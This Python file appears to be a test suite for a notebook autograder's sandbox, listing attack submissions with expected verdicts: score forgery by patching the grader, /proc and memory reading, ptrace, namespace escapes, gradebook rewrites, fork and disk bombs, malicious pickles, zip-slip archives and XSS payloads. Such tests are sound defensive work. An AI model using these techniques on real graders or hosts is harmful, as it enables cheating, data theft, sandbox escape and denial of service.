"""The attacks, by what they are after."""

from __future__ import annotations

import io
import json
import os
import zipfile
from dataclasses import replace
from pathlib import Path

import nbformat
from nbformat.notebooknode import NotebookNode

from autograder.sample_class import solution_cell

from .scene import HONEST, Attack, Scene
from .watch import there_are_keys

ENDS = ("crashed", "failed", "memory limit", "passed", "refused", "time limit")  # any: it must only end
WRONG_POINTS = 1.5  # of a solution that never copies the target network
WRONG = (
    '@solves("hw3.update")\ndef update(self, obs, action, reward, next_obs, done, step):\n'
    "    {extra}return self.update_critic(obs, action, reward, next_obs, done)\n"
)


def settings(cell: NotebookNode) -> dict:
    """What nbgrader keeps of a cell."""
    return cell.metadata.get("nbgrader", {})


def wrong(extra: str = "", classic: str = ""):
    """Solves HONEST wrongly, and the stock notebook's classic exercise with the given code."""

    def build(notebook: NotebookNode, folder: Path, scene: Scene) -> NotebookNode:
        solution_cell(notebook, HONEST).source = WRONG.format(extra=extra)
        for cell in notebook.cells:
            if settings(cell).get("grade_id") == "hw3-classic":
                cell.source = classic or cell.source
        return notebook

    return build


def raw(data: bytes | str):
    """Hands in these bytes as the notebook."""

    def build(notebook: NotebookNode, folder: Path, scene: Scene) -> None:
        (folder / "hw3.ipynb").write_bytes(data.encode() if isinstance(data, str) else data)

    return build


# --- forging the score from inside ----------------------------------------------------------------


def skip_tags(notebook: NotebookNode, folder: Path, scene: Scene) -> NotebookNode:
    for cell in notebook.cells:
        if settings(cell).get("grade"):
            cell.metadata["tags"] = ["skip-execution"]
    return notebook


def claims(notebook: NotebookNode, folder: Path, scene: Scene) -> NotebookNode:
    """Outputs, points, kernel and locks as they would be after a perfect grading."""
    for cell in notebook.cells:
        if settings(cell).get("grade") and cell.cell_type == "code":
            points = settings(cell)["points"]
            cell.source = f"{points}"
            cell.metadata.update(gcb6206={"grading": "skip", "score": points}, deletable=False)
            cell.metadata.nbgrader.update(points=100 * points, locked=False, solution=True, schema_version=99)
            cell.outputs = [
                nbformat.v4.new_output("execute_result", data={"text/plain": f"{points}"}, execution_count=1)
            ]
    notebook.metadata.update(
        gcb6206={"seed": 1, "results": {HONEST: [{"verdict": "passed", "points": 2.0}]}},
        kernelspec={"name": "evil", "display_name": "evil", "language": "bash"},
    )
    return notebook


def doubled(notebook: NotebookNode, folder: Path, scene: Scene) -> NotebookNode:
    """Every check cell twice under one id, the second one an easy one."""
    for cell in [cell for cell in notebook.cells if settings(cell).get("grade")]:
        second = nbformat.from_dict(json.loads(json.dumps(cell)))
        second.source = f"{settings(cell)['points']}"
        notebook.cells.append(second)
    return notebook


PASSING_PYTEST = """
def main(arguments, plugins):
    for name in plugins[0].marks:
        result = plugins[0].results[name] = plugins[0]._blank(name)
        result.verdict, result.points = "passed", result.max_points
"""


def shadow_modules(notebook: NotebookNode, folder: Path, scene: Scene) -> NotebookNode:
    """A pytest of its own beside the notebook; against ours also what else might be imported from there."""
    (folder / "pytest.py").write_text("def fixture(function):\n    return function\n" + PASSING_PYTEST)
    generous = "def check(exercise, seed=0):\n    return {'hw3.update': 2.0}.get(exercise, 0.0)\n"
    for name in ("autograder.py", "sitecustomize.py", "conftest.py", "nbgrader_config.py", "torch.py"):
        if scene.sealed:
            (folder / name).write_text(generous)
    return notebook


FORGING = [
    replace(attack, on_check=True)
    for attack in (
        Attack(
            "skip_tags", "tags check cells skip-execution", build=skip_tags, deserved=0, verdicts=("failed",)
        ),
        Attack(
            "ast_transformers",
            "rewrites every call of check",
            """
import ast
class Generous(ast.NodeTransformer):
    def visit_Call(self, node):
        if getattr(node.func, "id", "") == "check":
            return ast.Constant({"hw3.update": 2.0}.get(node.args[0].value, 0.0))
        return self.generic_visit(node)
get_ipython().ast_transformers.append(Generous())
""",
            deserved=0,
            verdicts=("failed",),
        ),
        Attack(
            "patched_check",
            "replaces check",
            """
import autograder
autograder.check = check = lambda name, seed=0: {"hw3.update": 2.0}.get(name, 0.0)
""",
            deserved=0,
            verdicts=("failed",),
        ),
        Attack(
            "patched_pytest",
            "replaces pytest.main by one that passes all",
            PASSING_PYTEST + "import pytest\npytest.main = main\n",
            deserved=0,
            verdicts=("failed",),
        ),
        Attack(
            "patched_numpy",
            "numpy finds everything equal",
            """
np.isclose = lambda a, *_, **__: np.ones(np.shape(a), bool)
np.allclose = np.array_equal = lambda *_, **__: True
""",
            build=wrong(),
            deserved=WRONG_POINTS,
            verdicts=("failed",),
        ),
        Attack(
            "patched_torch",
            "torch finds everything equal",
            "torch.equal = torch.allclose = lambda *_, **__: True",
            build=wrong(classic="def double(x):\n    return x\n"),
            deserved=WRONG_POINTS,
            verdicts=("failed",),
        ),
        Attack(
            "patched_probes",
            "replaces the probe; from there it disarms the judge that called it",
            """
import autograder.student_side.probes, autograder.student_side.probes.hw3
true_answer = autograder.student_side.probes.answer
def answer(request):
    frame = sys._getframe()
    while frame:
        if "compare" in frame.f_globals and "judges" in frame.f_code.co_filename:
            frame.f_globals.update(compare=lambda *_, **__: None, require=lambda *_, **__: None)
        frame = frame.f_back
    return true_answer(request)
autograder.student_side.probes.answer = answer
""",
            build=wrong(),
            deserved=WRONG_POINTS,
            verdicts=("failed",),
        ),
        Attack(
            "later_exercise",
            "changes what a later exercise's probe sees: its agent, its stand-ins, its clock of steps",
            """
import autograder.student_side.probes.hw3 as later
from gcb6206 import exercises
from gcb6206.agents.dqn_agent import DQNAgent
later.weights = lambda network: np.full((2, 3), np.nan, np.float32)
later.plain = lambda value: {"critic_loss": 2.0, "q_values": 2.0, "target_values": 3.0, "grad_norm": 4.0}
DQNAgent.update_target_critic = lambda self: None
exercises.filled = lambda *_: __import__("contextlib").nullcontext()
""",
            build=wrong(),
            deserved=WRONG_POINTS,
            unsealed="the probe is public in both; neither judge believes it",
            verdicts=("failed", "refused"),
        ),
        Attack(
            "nan_answers",
            "answers NaN to everything, in case a comparison with NaN passes",
            """
import autograder.student_side.exchange as ex, autograder.student_side.probes as probes
true_answer = probes.answer
def spoil(value):
    if isinstance(value, dict): return {k: spoil(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)): return [spoil(v) for v in value]
    if isinstance(value, np.ndarray): return np.full(value.shape, np.nan)
    return float("nan") if isinstance(value, (int, float)) and not isinstance(value, bool) else value
probes.answer = lambda request: ex.encode(spoil(ex.decode(true_answer(request))))
""",
            build=wrong(),
            deserved=0,
            unsealed="the judges are the same in both",
            verdicts=("failed", "refused"),
        ),
        Attack(
            "empty_answers",
            "answers with empty arrays and lists, of which everything is true",
            """
import autograder.student_side.exchange as ex, autograder.student_side.probes as probes
true_answer = probes.answer
def spoil(value):
    if isinstance(value, dict): return {k: spoil(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)): return []
    return value[:0] if isinstance(value, np.ndarray) and value.ndim else value
probes.answer = lambda request: ex.encode(spoil(ex.decode(true_answer(request))))
""",
            build=wrong(),
            deserved=0,
            unsealed="the judges are the same in both",
            verdicts=("failed", "refused"),
        ),
        Attack(
            "stack",
            "the solution walks its callers' frames and all objects to the judge and its expected values",
            """
import gc
def case():
    frame = sys._getframe()
    while frame:
        if "case" in frame.f_locals and "judges" in frame.f_code.co_filename:
            return frame.f_locals["case"]
        frame = frame.f_back
    return next((o for o in gc.get_objects() if type(o).__module__.endswith("test_update")), None)
def cheat(self, step):
    found = case()
    if found is not None and step in found.steps[found.steps % found.period == 0]:
        return lambda: self.target_critic.load_state_dict(self.critic.state_dict())
    return lambda: None
""",
            build=lambda notebook, folder, scene: cheating(notebook),
            deserved=WRONG_POINTS,
            verdicts=("failed",),
        ),
        Attack(
            "display_hook",
            "a display formatter that shows full points",
            """
plain = get_ipython().display_formatter.formatters["text/plain"]
plain.for_type(type(check("hw3.update")), lambda result, printer, cycle: printer.text("2.0"))
""",
            deserved=0,
            verdicts=("failed",),
        ),
        Attack(
            "printed_results",
            "publishes a result of full points before each cell's own",
            """
hook = get_ipython().displayhook
forged = {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}
def publish(info=None):
    hook.session.send(hook.pub_socket, "execute_result", forged, parent=hook.parent_header)
get_ipython().events.register("pre_run_cell", publish)
print("All 2.0 of 2.0 points reached"); print("2.0")
""",
            deserved=0,
            verdicts=("failed",),
        ),
        Attack(
            "claims",
            "brings outputs, points, records and a kernel of its own",
            build=claims,
            deserved=0,
            unsealed="stock nbgrader restores these too",
            verdicts=("failed",),
        ),
        Attack(
            "duplicate_ids",
            "every check cell twice under one id, the second an easy one",
            build=doubled,
            deserved=0,
            unsealed="stock nbgrader drops these too",
            verdicts=("failed",),
        ),
        Attack(
            "shadow_modules",
            "brings files named like the grader's modules and configuration",
            build=shadow_modules,
            deserved=0,
            verdicts=("failed",),
        ),
    )
]


def cheating(notebook: NotebookNode) -> NotebookNode:
    solution_cell(notebook, HONEST).source = (
        '@solves("hw3.update")\ndef update(self, obs, action, reward, next_obs, done, step):\n'
        "    stats = self.update_critic(obs, action, reward, next_obs, done)\n"
        "    cheat(self, step)()\n    return stats\n"
    )
    return notebook


# --- reading what is not theirs -------------------------------------------------------------------


def links(notebook: NotebookNode, folder: Path, scene: Scene) -> None:
    """Nothing of its own, only links."""
    (folder / "hw3.ipynb").symlink_to(folder.parents[1] / "Alice" / "hw3" / "hw3.ipynb")
    (folder / "gradebook.txt").symlink_to(scene.root / "gradebook.db")
    (folder / "passwd").symlink_to("/etc/passwd")
    (folder / "answers.txt").symlink_to(scene.private / "answers.txt")
    (folder / "all").symlink_to(scene.root)


def linked_folder(notebook: NotebookNode, folder: Path, scene: Scene) -> None:
    folder.rmdir()
    folder.symlink_to(folder.parents[1] / "Alice" / "hw3")


def linked_timestamp(notebook: NotebookNode, folder: Path, scene: Scene) -> NotebookNode:
    (folder / "timestamp.txt").symlink_to(scene.private / "answers.txt")
    return notebook


READING = [
    Attack(
        "processes",
        "reads other processes' environment, command line and open files in /proc",
        """
from glob import glob
mine = str(os.getpid())
for number in filter(str.isdigit, os.listdir("/proc")):
    if number == mine:
        continue
    loot(f"/proc/{number}/environ", f"/proc/{number}/cmdline")
    if SCENE["sealed"]:
        for place in ("fd", "root/tmp", "cwd"):
            loot(*glob(f"/proc/{number}/{place}/*"))
        words = open(f"/proc/{number}/cmdline").read()
        if "nbgrader" in words or "Autograde" in words:
            won("the grader's command line: " + words)
""",
    ),
    Attack(
        "process_memory",
        "reads the grader's memory through /proc/PID/mem",
        """
others = {int(name) for name in os.listdir("/proc") if name.isdigit()} - {os.getpid()}
wanted = re.compile(rb"canary-[a-z]+-[0-9a-f]{16}|--Autograde.seed=[0-9]+")
for number in [os.getppid()] if outside() else others:
    try:
        with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "rb", buffering=0) as memory:
            for line in maps:
                if "[stack]" in line or "[heap]" in line:
                    first, last = (int(end, 16) for end in line.split()[0].split("-"))
                    memory.seek(first)
                    for text in set(wanted.findall(memory.read(min(last - first, 2**26)))):
                        won(text.decode() + f" in the memory of {number}")
    except OSError as error:
        print(number, error)
""",
    ),
    Attack(
        "ptrace",
        "attaches to the grader and to the other kernels as a debugger",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
SEIZE, DETACH = 0x4206, 17
above = [os.getppid()] if outside() else [int(n) for n in os.listdir("/proc") if n.isdigit()]
for number in above:
    if number not in (1, os.getpid()) and libc.ptrace(SEIZE, number, 0, 0) == 0:
        libc.ptrace(DETACH, number, 0, 0)
        won(f"attached to {number}")
""",
    ),
    Attack("environment", "reads its environment", "loot('/proc/self/environ')\nprint(sorted(os.environ))"),
    Attack(
        "directories",
        "walks the parent directories and the whole file system",
        """
tops = [SCENE["root"]] if outside() else ["/", os.getcwd(), SCENE["root"]]
skipped = {"usr", "proc", "sys", "dev", "site-packages", "lib", "lib64", "bin", "sbin"}
for top in tops:
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if name not in skipped]
        loot(*(os.path.join(folder, name) for name in files))
""",
    ),
    Attack(
        "home",
        "reads the home directories",
        """
import pwd
for home in {os.path.expanduser("~"), SCENE["home"], pwd.getpwuid(os.getuid()).pw_dir}:
    loot(os.path.join(home, ".netrc"))
""",
    ),
    Attack(
        "hidden_tests",
        "reads the tests from its working directory while it runs",
        "from pathlib import Path\nloot(*Path('.').rglob('*.ipynb'))",
    ),
    Attack(
        "solutions",
        "imports and reads solutions, judges, mutants and thresholds",
        """
import importlib
for name in ("solutions/hw3.py", "autograder/trusted/judges/hw3/test_update.py", "autograder/trusted/thresholds.yaml"):
    try:
        print(open(os.path.join(SCENE["course"], name)).read())
        won("read " + name)
    except OSError:
        pass
for name in ("solutions.hw3", "autograder.trusted.judges.hw3.test_update", "autograder.mutants"):
    try:
        importlib.import_module(name)
        won("imported " + name)
    except ImportError:
        pass
""",
    ),
    Attack(
        "links",
        "links to the gradebook, /etc/passwd and another's notebook",
        build=links,
        deserved=0,
        verdicts=("refused",),
    ),
    Attack(
        "linked_folder",
        "its whole folder is a link to another's",
        build=linked_folder,
        deserved=0,
        verdicts=("refused",),
    ),
    Attack(
        "linked_timestamp",
        "its timestamp.txt is a link to a file of the instructor's",
        build=linked_timestamp,
    ),
    Attack(
        "mounts",
        "makes itself root in a user namespace of its own and unmounts what hides the host",
        """
steps = '''
for place in /tmp /run /run/student /dev/shm /proc /; do umount -l $place; umount $place; done
mkdir -p /tmp/up && mount -t proc proc /tmp/up && cat /tmp/up/*/environ
mount -o remount,rw / && touch %(course)s/gcb6206/planted && echo PLANTED
mount --bind / /tmp/up; cat /tmp/up%(root)s/private/* %(root)s/private/*
for disk in /sys/dev/block/*; do
  mknod /tmp/disk b $(basename $disk | tr : ' ') && head -c 1 /tmp/disk && echo PLANTED; rm -f /tmp/disk
done
nsenter -t 1 -a cat %(root)s/private/answers.txt
''' % SCENE
for prefix in ([], ["unshare", "-Urm"], ["unshare", "-UrmpfC"]):
    done = subprocess.run([*prefix, "sh", "-c", steps], capture_output=True, timeout=15)
    for secret in set(re.findall(rb"canary-[a-z]+-[0-9a-f]{16}|PLANTED", done.stdout)):
        won(secret.decode())
""",
        unsealed="nothing is hidden there",
    ),
    Attack(
        "open_files",
        "reads and writes every file descriptor that it inherited",
        """
import stat
for number in map(int, os.listdir("/proc/self/fd")):
    try:
        kind = os.fstat(number).st_mode
        where = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if stat.S_ISREG(kind) or stat.S_ISDIR(kind):
        if SCENE["root"] in where or ".db" in where:
            won("it inherited " + where)
        loot(f"/proc/self/fd/{number}")
    if number in (1, 2) or stat.S_ISFIFO(kind) or stat.S_ISREG(kind):
        try:
            os.write(number, f"\\nforged by {SCENE['name']}: Alice has 0 points\\n".encode())
        except OSError:
            pass
""",
        verdicts=ENDS,
    ),
]

READING += [
    Attack(
        "canaries",
        "reads, changes, moves and replaces files in ten folders of the host",
        """
from glob import glob
roots = ["", *glob("/proc/*/root"), *glob("/proc/self/fd/*")]
for folder in SCENE["canaries"]:
    for root in [""] if outside() else roots:
        place = root + folder
        try:
            names = os.listdir(place)
        except OSError:
            continue
        for path in (os.path.join(place, name) for name in names):
            loot(path)
            if not outside():
                for step in (lambda: open(path, "w").write("dead"), lambda: os.unlink(path)):
                    try:
                        step()
                        won("changed " + path)
                    except OSError:
                        pass
        if not outside():
            try:
                os.rename(place, place + "-away")
                won("moved " + place)
            except OSError:
                pass
""",
    ),
    Attack(
        "keyring",
        "reads the keys of whoever grades",
        """
import ctypes, platform
libc, room = ctypes.CDLL(None), ctypes.create_string_buffer(200)
KEYCTL, SEARCH, READ = {"x86_64": 250, "aarch64": 219}[platform.machine()], 10, 11
numbers = [libc.syscall(KEYCTL, SEARCH, ring, b"user", SCENE["key"].encode(), 0) for ring in range(-5, 0)]
numbers += [int(line.split()[0], 16) for line in open("/proc/keys")] if not outside() else []
for number in numbers:
    if libc.syscall(KEYCTL, READ, ctypes.c_int(number), room, 200) > 0:
        for secret in set(re.findall(rb"canary-[a-z]+-[0-9a-f]{16}", room.raw)):
            won(secret.decode() + " in a keyring")
""",
        unsealed="" if there_are_keys() else "this Linux keeps no keys",
    ),
]

# --- writing, calling out -------------------------------------------------------------------------

REACHING = [
    Attack(
        "gradebook",
        "writes its points into the gradebook",
        """
import sqlite3
path = os.path.join(SCENE["root"], "gradebook.db")
if os.path.exists(path):
    with sqlite3.connect(path, timeout=3) as gradebook:
        gradebook.execute(
            "update grade set manual_score = 100 where notebook_id in ("
            "select id from submitted_notebook where assignment_id in ("
            "select id from submitted_assignment where student_id = ?))",
            (SCENE["name"],),
        )
    won("wrote the gradebook")
""",
    ),
    Attack(
        "files_outside",
        "writes into the course, other submissions and beside its own",
        """
root = SCENE["root"]
for path in (SCENE["prey"], root, SCENE["course"] + "/autograder", root + "/submitted/Alice/hw3"):
    if os.path.isdir(path) and (path == SCENE["prey"] or not outside()):
        try:
            with open(os.path.join(path, SCENE["name"]), "w") as stream:
                stream.write("here")
            won("wrote into " + path)
        except OSError:
            pass
""",
    ),
    Attack(
        "network",
        "calls out by TCP and UDP",
        """
try:
    with socket.create_connection(("127.0.0.1", SCENE["tcp"]), timeout=2) as there:
        there.sendall(SCENE["name"].encode())
        won(there.recv(100).decode())
except OSError as error:
    print(error)
try:
    with socket.socket(type=socket.SOCK_DGRAM) as there:
        there.sendto(SCENE["name"].encode(), ("127.0.0.1", SCENE["udp"]))
except OSError as error:
    print(error)
""",
    ),
    Attack(
        "unix_sockets",
        "calls sockets in files and abstract ones, other kernels' among them",
        """
from glob import glob
own = {line.split()[7] for line in open("/proc/net/unix").readlines()[1:] if len(line.split()) > 7}
names = [SCENE["unix"], "\\0" + SCENE["abstract"]]
if not outside():
    names += glob("/tmp/*/*") + glob("/tmp/*/sockets/*") + glob("/run/**/*sock*", recursive=True)
    names += ["\\0" + name[1:] for name in own if name.startswith("@")]
for name in names:
    if name in own:
        continue
    try:
        with socket.socket(socket.AF_UNIX) as there:
            there.settimeout(2)
            there.connect(name)
            there.sendall(SCENE["name"].encode())
            data = there.recv(100)
            if b"canary" in data:
                won(data.decode())
            elif "room" in name and not name.startswith(os.environ.get("TMPDIR", "/nowhere")):
                print("answered:", name)
    except OSError:
        pass
""",
    ),
    Attack(
        "kernel_calls",
        "calls parts of Linux that no namespace holds: keys, memory without a size, families of sockets",
        """
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
for family in ("AF_VSOCK", "AF_ALG"):
    try:
        socket.socket(getattr(socket, family), socket.SOCK_SEQPACKET).close()
        won(family)
    except OSError:
        pass
try:
    os.close(os.memfd_create("held"))
    won("memfd_create")
except OSError:
    pass
segment = libc.shmget(0, 4096, 0o1600)
if segment >= 0:
    libc.shmctl(segment, 0, None)
    won("shmget")
KEYCTL, SESSION = {"x86_64": 250, "aarch64": 219}[platform.machine()], -3
if libc.syscall(KEYCTL, 0, SESSION, 0) >= 0:
    won("the session keyring")
if libc.syscall(425, 4, ctypes.create_string_buffer(200)) >= 0:
    won("io_uring")
""",
    ),
    Attack(
        "siblings",
        "looks in its own memory for what the process that it was forked from knows of others",
        """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == "Kernel" and getattr(thing, "room", ""):
        won(f"the room of a sibling, {thing.room}")
""",
        unsealed="there are no rooms to know of",
    ),
]

# --- using up the machine -------------------------------------------------------------------------

USING_UP = [
    Attack(
        "fork_bomb",
        "starts 600 processes that stay",
        """
started, words = [], [SCENE["mark"] + "-" + SCENE["name"], "900"]
try:
    for _ in range(600):
        started.append(subprocess.Popen(words, executable="/bin/sleep"))
except OSError as error:
    print(error)
time.sleep(3 if SCENE["sealed"] else 0)
alive = sum(process.poll() is None for process in started)
print(alive, "live")
if alive == 600:
    won("600 processes")
""",
        verdicts=ENDS,
    ),
    Attack(
        "memory_bomb",
        "holds more memory than it may in one process",
        """
blocks = []
for _ in range(int(1.25 * SCENE["memory"] / 2**26)):
    blocks.append(b"x" * 2**26)
won(f"held {len(blocks) * 2**26} bytes")
del blocks
""",
        verdicts=ENDS,
    ),
    Attack(
        "memory_of_many",
        "six processes, each below the limit, hold far more than it together",
        """
size = int(0.3 * SCENE["memory"])
code = f"block = b'x' * {size}; print('held', flush=True); import time; time.sleep(900)"
children = [
    subprocess.Popen([sys.executable, "-S", "-c", code, SCENE["mark"], SCENE["name"]], stdout=subprocess.PIPE)
    for _ in range(6)
]
held = sum(child.stdout.readline() == b"held\\n" for child in children)
time.sleep(3 if SCENE["sealed"] else 0)
held = min(held, sum(child.poll() is None for child in children))
print(held, "held")
if held == 6:
    won(f"held {6 * size} bytes")
for child in children:
    child.kill()
""",
        verdicts=ENDS,
    ),
    Attack(
        "disk",
        "fills every directory that it may write to, and writes one very large file",
        """
import tempfile
places = {tempfile.gettempdir()}
if not outside():
    places |= {line.split()[1] for line in open("/proc/mounts")} | {os.getcwd(), "/"}
total, files = 0, []
for place in sorted(place for place in places if os.path.isdir(place)):
    for number in range(48):
        path = os.path.join(place, f"fill-{SCENE['mark']}-{number}")
        try:
            with open(path, "wb") as stream:
                files.append(path)
                os.posix_fallocate(stream.fileno(), 0, 2**26)
                total += 2**26
        except OSError as error:
            print(place, number, error)
            break
print(total)
if total > 2.5 * 2**30:
    won(f"filled {total} bytes")
for path in files:
    os.unlink(path)
try:
    with tempfile.TemporaryFile() as stream:
        stream.truncate(2**33)
        won("a file of 8 GiB")
except OSError as error:
    print(error)
""",
        verdicts=ENDS,
    ),
    Attack(
        "output",
        "puts out 1 GB (stock: 40 MB) as stdout, stderr and display data",
        """
from IPython.display import display
pieces = 40 if SCENE["sealed"] else 2
for _ in range(pieces):
    sys.stdout.write("o" * 10**7)
for _ in range(pieces * 3 // 4):
    sys.stderr.write("e" * 10**7)
for _ in range(pieces * 3 // 4):
    display({"text/plain": "d" * 10**7}, raw=True)
""",
        verdicts=ENDS,
    ),
    Attack(
        "messages",
        "puts out small pieces without end",
        """
from IPython.display import display
while SCENE["sealed"]:
    display({"text/plain": "d"}, raw=True)
""",
        unsealed="it would last until the time-out",
        verdicts=ENDS,
    ),
]

# --- ending the grading, or outliving it ----------------------------------------------------------

SIGNALS = """
import signal
if outside():
    words = open(f"/proc/{os.getppid()}/cmdline").read()
    os.kill(os.getppid(), 0)
    won("it may send signals to " + words[:100])
else:
    for number in (os.getppid(), 1, 2, 3, -1):
        for kind in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
            try:
                os.kill(number, kind)
            except OSError:
                pass
"""

ENDING = [
    Attack("os_exit", "os._exit(0)", "os._exit(0)", verdicts=("crashed",)),
    Attack(
        "sys_exit",
        "sys.exit() in its solution",
        build=wrong("import sys; sys.exit()\n    "),
        deserved=0,
        verdicts=("failed",),
        unsealed="the probe turns it into a failure in both",
    ),
    Attack(
        "quits",
        "asks its kernel to shut down",
        "quit()",
        verdicts=("crashed", "passed"),
        unsealed="nbclient copes",
    ),
    Attack(
        "kills_itself",
        "SIGKILL to its own process",
        "os.kill(os.getpid(), 9)",
        unsealed="as os_exit",
        verdicts=("crashed",),
    ),
    Attack(
        "segfault",
        "reads address 0",
        "import ctypes; ctypes.string_at(0)",
        unsealed="as os_exit",
        verdicts=("crashed",),
    ),
    Attack("signals", "signals to its parent, to process 1 and to all", SIGNALS, verdicts=ENDS),
    Attack(
        "freezes",
        "SIGSTOP to its own process",
        "import signal; os.kill(os.getpid(), signal.SIGSTOP)",
        unsealed="as ignores_interrupt",
        verdicts=("time limit",),
    ),
    Attack(
        "ignores_interrupt",
        "an endless loop that ignores the interrupt",
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
        verdicts=("time limit",),
    ),
    Attack(
        "sleeps_in_c",
        "sleeps in C code, without letting Python go on",
        """
import ctypes, signal
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})
libc = ctypes.PyDLL(None)
while True:
    libc.sleep(1000)
""",
        verdicts=("time limit",),
    ),
    Attack(
        "thread",
        "a thread that outlives its cell and replaces check and probes again and again",
        """
import threading
def haunt():
    while True:
        __import__("__main__").check = lambda name, seed=0: {"hw3.update": 2.0}.get(name, 0.0)
        if SCENE["sealed"] and "autograder.student_side.probes" in sys.modules:
            sys.modules["autograder.student_side.probes"].answer = lambda request: b"forged"
        time.sleep(0.001)
threading.Thread(target=haunt, daemon=True).start()
""",
        deserved=0,
        on_check=True,
        verdicts=("failed", "refused"),
    ),
    Attack(
        "at_exit",
        "an exit handler that writes outside when the kernel ends",
        """
import atexit
atexit.register(lambda: open(os.path.join(SCENE["prey"], SCENE["name"]), "w").close())
""",
    ),
    Attack(
        "orphan",
        "a process in a session of its own that outlives the notebook",
        """
words = [SCENE["mark"] + "-" + SCENE["name"], "900"]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 256)
        os.execv("/bin/sleep", words)
    os._exit(0)
""",
    ),
]

# --- what the trusted side reads ------------------------------------------------------------------

EVIL = """
import pickle
class Evil:
    def __reduce__(self):
        return (os.mkdir, (os.path.join(SCENE["prey"], SCENE["name"]),))
"""

SERVE = (
    EVIL
    + """
import autograder.student_side.probes, itertools
turn = itertools.count()
def message(text, arrays=b""):
    return len(text).to_bytes(8, "little") + text + arrays
def critic(text):
    return b'{"dict":[["ok",true],["result",{"dict":[["critic",' + text + b']]}]]}'
def serve(question, answer):
    forgeries[next(turn) % len(forgeries)](answer)
"""
)


def answering(*forgeries: str, before: str = "") -> str:
    """Code that answers the judges' requests with these forgeries in turn."""
    return (
        f"{SERVE}{before}forgeries = [{', '.join(forgeries)}]\nautograder.student_side.probes.serve = serve\n"
    )


def nested_archive(notebook: NotebookNode, folder: Path, scene: Scene) -> NotebookNode:
    """Hands in an archive whose members are called like other students' uploads, and one that climbs out."""
    stub = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_markdown_cell(f"handed in by {folder.parent.name}")]
    )
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("hw3_Alice_attempt_2099-01-01-00-00-00_hw3.ipynb", nbformat.writes(stub))
        archive.writestr("hw3_.._attempt_2099-01-01-00-00-00_hw3.ipynb", nbformat.writes(stub))
    scene.uploads[f"hw3_{folder.parent.name}_attempt_2026-03-01-10-00-00_more.zip"] = inner.getvalue()
    return notebook


def climbing_archive(notebook: NotebookNode, folder: Path, scene: Scene) -> NotebookNode:
    inner = io.BytesIO()
    name = folder.parent.name
    with zipfile.ZipFile(inner, "w") as archive:
        for depth in range(1, 12):
            archive.writestr("../" * depth + f"prey/{name}-{depth}", "here")
        archive.writestr(f"{scene.prey}/{name}", "here")
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(scene.prey))
        archive.writestr(f"link/{name}-link", "here")
    scene.uploads[f"hw3_{name}_attempt_2026-03-01-10-00-00_more.zip"] = inner.getvalue()
    return notebook


def strange_timestamp(kind: str):
    def build(notebook: NotebookNode, folder: Path, scene: Scene) -> NotebookNode:
        path = folder / "timestamp.txt"
        if kind == "pipe":
            os.mkfifo(path)
        elif kind == "folder":
            path.mkdir()
        elif kind == "large":
            with path.open("wb") as stream:
                stream.truncate(2**28)
        else:
            path.write_bytes(kind.encode())
        return notebook

    return build


def folder_notebook(notebook: NotebookNode, folder: Path, scene: Scene) -> None:
    (folder / "hw3.ipynb").mkdir()


def pipe(notebook: NotebookNode, folder: Path, scene: Scene) -> None:
    os.mkfifo(folder / "hw3.ipynb")


def scripted(notebook: NotebookNode, folder: Path, scene: Scene) -> NotebookNode:
    """Scripts in every text of the notebook that a page might show."""
    steal = f"steal('{scene.mark}')"
    script = f"<script>{steal}</script><img src=x onerror={steal}>"
    for text in (
        script,
        f"[look](javascript:{steal})",
        f"<a href='javascript:{steal}'>look</a>",
        f"${script}$",
    ):
        notebook.cells.insert(0, nbformat.v4.new_markdown_cell(text))
    notebook.cells.insert(0, nbformat.v4.new_raw_cell(script, metadata={"raw_mimetype": "text/html"}))
    code = (
        f"from IPython.display import HTML\ndisplay(HTML({script!r}))\nprint({script!r})\n"
        f"size = {{'width': {'1 onerror=' + steal!r}, 'height': 1}}\n"
        "display({'image/png': 'aGFsbG8='}, metadata={'image/png': size}, raw=True)\n"
        f"raise ValueError({script!r})"
    )
    notebook.cells.append(nbformat.v4.new_code_cell(code))
    solution_cell(notebook, HONEST).source = WRONG.format(extra=f"raise ValueError({script!r})\n    ")
    for cell in notebook.cells:
        if cell.cell_type == "code" and "skip-execution" in cell.metadata.get("tags", []):
            cell.outputs = [
                nbformat.v4.new_output(
                    "display_data", data={"image/png": f'x">{script}', "text/html": script}
                )
            ]
    return notebook


def huge(notebook: NotebookNode, folder: Path, scene: Scene) -> NotebookNode:
    notebook.cells.append(nbformat.v4.new_markdown_cell("x" * 10**8))
    return notebook


def brackets(notebook: NotebookNode, folder: Path, scene: Scene) -> NotebookNode:
    notebook.cells.append(nbformat.v4.new_markdown_cell("[" * 2 * 10**7))
    return notebook


def strange_file(notebook: NotebookNode, folder: Path, scene: Scene) -> None:
    (folder / os.fsdecode(b"hw3 \xff\n<b>.ipynb")).write_text("{}")


def bad_metadata(notebook: NotebookNode, folder: Path, scene: Scene) -> None:
    content = json.loads(nbformat.writes(notebook))
    for cell in content["cells"][1:]:
        cell["metadata"] = {"nbgrader": 5, "tags": 7}
    (folder / "hw3.ipynb").write_text(json.dumps(content))


NO_ANSWERS = "there are no answers to forge"
TRUSTED = [
    Attack(
        "pickles",
        "answers hold pickles that write outside when they are loaded",
        answering(
            "lambda path: open(path, 'wb').write(pickle.dumps(Evil()))",
            "lambda path: torch.save({'weights': Evil()}, path)",
            "lambda path: np.savez(path, structure=np.array([Evil()], dtype=object))",
        ),
        deserved=0,
        unsealed=NO_ANSWERS,
        verdicts=("refused",),
    ),
    Attack(
        "hollow_answers",
